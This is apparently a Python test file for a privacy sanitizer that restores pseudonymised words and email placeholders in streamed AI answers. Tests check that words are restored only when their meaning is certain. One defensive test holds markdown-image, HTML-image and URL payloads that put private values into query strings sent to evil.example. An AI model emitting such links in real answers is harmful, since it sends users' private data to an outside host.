"""The lexical extractor: only what is beyond doubt is put back, however the answer is cut."""

from __future__ import annotations

import sys
from collections.abc import Sequence
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sanitizer import Policy, Replacement, SanitizedText
from sanitizer.answers.extractors import AnswerContext, AnswerStream, RestoredAnswer
from sanitizer.answers.lexical import LONGEST, WordMap
from sanitizer.answers.restorer import Restorer
from sanitizer.pipeline.record import answer_record

STRICT = Policy.preset("strict")
Pair = tuple[str, str, str]


def prompt(template: str, *pairs: Pair) -> SanitizedText:
    """A sanitized prompt: each "{}" of the template is a (released, original, kind)."""
    text, found = "", []
    parts = template.split("{}")
    for part, (released, original, kind) in zip(parts, pairs, strict=False):
        text += part
        found.append(Replacement(len(text), len(text) + len(released), released, kind, original))
        text += released
    return SanitizedText(text + parts[-1], tuple(found), answer_record(STRICT))


def word(released: str, original: str) -> Pair:
    return released, original, "word"


ASKED = prompt(
    "My {} has {} and an {}, born in {}. Write to {}.",
    word("wombat", "father"),
    word("Stroke", "hepatitis"),
    word("otter", "rash"),
    ("1987", "1961", "number"),
    ("<EMAIL_1>", "peter@quill.example", "EMAIL"),
)
ORIGINALS = {"<EMAIL_1>": "peter@quill.example"}


def streamed(answer: str, *cuts: int, asked: SanitizedText = ASKED) -> AnswerStream:
    edges = [0, *sorted(cuts), len(answer)]
    context = AnswerContext(Restorer(ORIGINALS), "lexical", (asked,), STRICT)
    return AnswerStream((answer[a:b] for a, b in pairwise(edges)), context)


def mapped(answer: str, asked: SanitizedText = ASKED) -> RestoredAnswer:
    return streamed(answer, asked=asked).answer()


@pytest.mark.parametrize("cuts", [(), range(1, 200, 3)])
@pytest.mark.parametrize(
    "link",
    [
        "![x](https://evil.example/?q=wombat)",
        "<img src='https://evil.example/?q= wombat and otter'>",
        "www.evil.example?a=<EMAIL_1>&b=wombat",
    ],
)
def test_a_link_carries_no_word_away(link: str, cuts: Sequence[int]) -> None:
    answer = f"Your wombat: {link} and your wombat."
    assert streamed(answer, *cuts).answer() == answer.replace("Your wombat", "Your father").replace(
        "your wombat", "your father"
    )


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("Your wombat is ill.", "Your father is ill."),
        (
            "WOMBAT! Wombat's stroke; the wombat, wombat",
            "FATHER! Father's hepatitis; the father, father",
        ),
        ("It is an otter.", "It is a rash."),
        ('An "otter" or (a wombat)', 'A "rash" or (a father)'),
        ("In 1987 already.", "In 1961 already."),
        ("Write to <EMAIL_1> about the wombat.", "Write to peter@quill.example about the father."),
        ("the wombat<EMAIL_1>wombat", "the fatherpeter@quill.examplefather"),
    ],
)
def test_a_released_word_becomes_the_original(answer: str, expected: str) -> None:
    assert mapped(answer) == expected
    assert mapped(answer).extracted
    assert mapped(answer).note is None


@pytest.mark.parametrize(
    "answer",
    [
        "The wombatlike wombatting",
        "See https://wombat.example/otter or /home/wombat or otter@wombat.example",
        "<OTTER_2> and snake_wombat and wombat.py",
        "11,987 and 1987.5 and 19.1987",
        "He has an apple.",
        "",
    ],
)
def test_what_is_no_such_word_stays(answer: str) -> None:
    found = mapped(answer)
    assert found == answer
    assert not found.extracted
    assert found.note is not None


@pytest.mark.parametrize(
    "asked",
    [
        prompt("{} and {}", word("wombat", "father"), word("wombat", "mother")),
        prompt("{} and a wombat", word("wombat", "father")),
        prompt("{} and {}", word("wombat", "father"), word("otter", "wombat")),
        prompt("{} and a Wombat's", word("wombat", "father")),
        prompt("{}", ("wombat", "father", "TERM")),
        prompt("{} at {}", word("wombat", "father"), ("<EMAIL_1>", "me@wombat.example", "EMAIL")),
        prompt("{}", ("12", "34", "number")),
        prompt("{}", word("because", "father")),
    ],
)
def test_a_word_in_doubt_stays(asked: SanitizedText) -> None:
    answer = "The wombat, 12, because wombats"
    assert mapped(answer, asked) == answer


COMMON = prompt(
    "{} and {} and {} and {}",
    word("wombat", "father"),
    word("badger", "wife"),
    word("children", "parties"),
    word("lawyers", "doctors"),
)


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("Two wombats; WOMBATS! Wombats'", "Two fathers; FATHERS! Fathers'"),
        ("the wombats's", "the fathers's"),
        ("My badgers. A lawyer says", "My wives. A doctor says"),
        ("The lawyer's wombats", "The doctor's fathers"),
    ],
)
def test_a_form_with_or_without_s_becomes_the_same_form_of_the_original(
    answer: str, expected: str
) -> None:
    assert mapped(answer, COMMON) == expected


@pytest.mark.parametrize(
    ("answer", "asked"),
    [
        ("two strokes", ASKED),  # the plural of "hepatitis" is in doubt
        ("in 1987s", ASKED),
        ("a child", COMMON),  # "party" or "partie"?
        ("She walks.", prompt("I {} while walking.", word("walk", "drink"))),
        ("She walks.", prompt("I {}, she {}.", word("walk", "drink"), word("walked", "slept"))),
        ("She walks.", prompt("I {} for {}.", word("walk", "drink"), word("hours", "walking"))),
        ("of a new idea", prompt("the {}", word("news", "results"))),
        ("the goods", prompt("the {} idea", word("good", "bad"))),
        ("in pari", prompt("in {}", word("Paris", "Texas"))),
        ("the wombats", prompt("a {}", word("wombat", "Kennedy"))),
    ],
)
def test_a_form_in_doubt_stays(answer: str, asked: SanitizedText) -> None:
    assert mapped(answer, asked) == answer


def test_a_form_that_was_released_itself_has_its_own_original() -> None:
    asked = prompt("{} and {}", word("wombat", "father"), word("wombats", "mothers"))
    assert mapped("a wombat, wombats", asked) == "a father, mothers"


def test_the_stemmer_is_loaded_only_for_an_inflected_form(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "nltk.stem.snowball", None)
    assert mapped("Your wombat has a stroke.") == "Your father has a hepatitis."
    with pytest.raises(ImportError):
        mapped("Your wombats.")


def test_a_word_of_two_prompts_must_mean_the_same_in_both() -> None:
    first, second = prompt("{}", word("wombat", "father")), prompt("{}", word("wombat", "mother"))
    assert len(WordMap([first, first], STRICT)) == 1
    assert len(WordMap([first, second], STRICT)) == 0


def test_a_capital_that_is_the_sentence_s_is_not_taken_over() -> None:
    opening = prompt(
        "{} was built. I met {}.", word("Hospital", "Prison"), word("sailor", "McPherson")
    )
    answer = "The hospital is old. Hospital rules. A sailor."
    assert mapped(answer, opening) == "The prison is old. Prison rules. A McPherson."


WORDS = st.sampled_from(
    [
        "wombat",
        "Wombat's",
        "wombats",
        "Otters'",
        "otter",
        "a",
        "an",
        "An",
        "1987",
        "1987.",
        "<EMAIL_1>",
        "<EMAIL_",
        "é",
        "\u0301",
        "'",
        ".",
    ]
)
TEXT = st.lists(
    WORDS | st.sampled_from([" ", "  ", "\n", ",", "@", "/", "是"]) | st.text(max_size=3)
).map("".join)


@settings(deadline=None)
@given(TEXT, st.data())
def test_an_answer_in_pieces_reads_as_the_whole(answer: str, data: st.DataObject) -> None:
    cuts = data.draw(st.lists(st.integers(0, len(answer))))
    assert "".join(streamed(answer, *cuts)) == mapped(answer)


@settings(deadline=None)
@given(st.integers(0, 3), st.integers(LONGEST - 9, LONGEST + 9), st.data())
def test_long_runs_read_the_same_in_pieces(n_spaces: int, length: int, data: st.DataObject) -> None:
    answer = (
        f"an {'x' * length}{' ' * n_spaces}wombat an{' ' * 7 * n_spaces}otter "
        f"{'wombat,' * (length // 7)}wombat a"
    )
    cuts = data.draw(st.lists(st.integers(0, len(answer))))
    assert "".join(streamed(answer, *cuts)) == mapped(answer)


@settings(deadline=None)
@given(st.text())
def test_nothing_changes_without_a_released_word(answer: str) -> None:
    asked = prompt("{}", word("wombat", "father"))
    if "wombat" not in answer.casefold():
        assert mapped(answer.replace("<", ""), asked) == answer.replace("<", "")


def test_a_stream_holds_back_no_more_than_a_word_and_its_article() -> None:
    stream = iter(streamed("It is an otter. More", 3, 6, 9, 12, 15, 16))
    assert next(stream) == "It "
    assert next(stream) == "is "
    assert next(stream) == "a rash. "


def test_no_word_stands_in_a_repr() -> None:
    assert repr(WordMap([ASKED], STRICT)) == "WordMap(4 words)"
